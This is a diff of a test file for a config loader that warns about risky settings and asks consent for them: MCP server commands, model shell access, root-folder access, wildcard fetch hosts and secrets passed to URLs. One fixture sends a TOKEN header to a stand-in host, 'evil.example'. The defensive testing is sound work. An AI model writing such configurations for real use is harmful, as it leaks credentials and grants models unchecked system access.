@@ -156,18 +156,26 @@ describe('parts that this version cannot run yet', () => {
   it.each<[string, string[]]>([
     ['[mcp.a]\ncommand = ["npx", "-y", "x y"]', ['1 [mcp.a]: run npx -y "x y"']],
     ['[mcp.a]\ncommand = ["x"]\nenv = { T = "env:TOKEN" }', ['1 [mcp.a]: run x, with your TOKEN']],
-    ['[tools]\nshell = true', ['2 [tools] shell: let models run any command']],
-    ['[tools]\nroots = ["/", "~"]', ['2 [tools] roots: let models read and write /, ~']],
+    ['[tools]\nallow = ["now", "shell"]', ['2 [tools] allow: let models run commands']],
+    ['[tools.shell]\nenv = ["TOKEN"]', ['1 [tools.shell]: show commands of models your TOKEN']],
+    ['[tools.roots]\nall = "/"\nhome = ".."', ['1 [tools.roots]: let models use the folders /, ..']],
+    ['[tools.fetch]\nhosts = ["*"]\nprivate_hosts = ["nas"]', ['1 [tools.fetch]: let models ask *, nas']],
+    ['[tools.sql]\nfile = "/var/shop.db"', ['1 [tools.sql]: let models read /var/shop.db']],
+    [
+      '[tools.rules]\nshell = "allow"\n"mcp:*" = "allow"\nnow = "deny"',
+      ['1 [tools.rules]: let shell, mcp:* run without asking'],
+    ],
+    ['[tools]\nallow = ["now"]\n[tools.rules]\nnow = "ask"\n[tools.roots]\n[tools.fetch]\n', []],
     [
       '[mcp.a]\nurl = "https://evil.example"\nheaders = { Authorization = "env:TOKEN" }',
       ['1 [mcp.a]: send TOKEN to https://evil.example'],
     ],
     [
-      '[mcp.a]\ncommand = ["x"]\n[tools]\nshell = true',
-      ['1 [mcp.a]: run x', '4 [tools] shell: let models run any command'],
+      '[mcp.a]\ncommand = ["x"]\n[tools]\nallow = ["shell"]',
+      ['1 [mcp.a]: run x', '4 [tools] allow: let models run commands'],
     ],
     ['[observe]\notlp = "env:OTEL_EXPORTER_OTLP_ENDPOINT"', []],
-    ['[tools]\nshell = false\n[vector]\nurl = "x"', []],
+    ['[vector]\nurl = "x"', []],
     [
       '[vector]\nstore = "qdrant"\nurl = "http://127.0.0.1:6333"\napi_key = "env:AWS_SECRET"',
       ['1 [vector]: send AWS_SECRET to http://127.0.0.1:6333'],
@@ -177,11 +185,22 @@ describe('parts that this version cannot run yet', () => {
   })
 
   it('are refused without a question, and a trust for them is not kept', async () => {
-    for (const text of ['[tools]\nshell = true', '[tools]\nroots = ["/"]']) {
+    for (const text of [
+      '[state]\nstore = "postgres"\nurl = "postgres://x.example"',
+      '[observe]\notlp = "https://x.example"',
+    ]) {
       expect(await load(`${ORIGIN}${text}\n`, { answer: true })).toMatchObject({ asked: [], code: 'unsupported' })
       expect((await load(`${ORIGIN}${text}\n`, { trust: true })).code).toBe('unsupported')
     }
     expect(existsSync(trustFolder)).toBe(false)
+  })
+
+  it('of the built-in tools are asked about once, by what they say', async () => {
+    const text = `${ORIGIN}[tools]\nallow = ["read_file"]\n[tools.roots]\ndocs = "./docs"\n`
+    expect(await load(text)).toMatchObject({ code: 'forbidden' })
+    expect((await load(text, { answer: true })).asked).toHaveLength(1)
+    expect(await load(text)).toMatchObject({ asked: [], code: undefined })
+    expect(await load(text.replace('./docs', '/'))).toMatchObject({ code: 'forbidden' })
   })
 
   it('are asked for without letting the file write to the terminal', async () => {
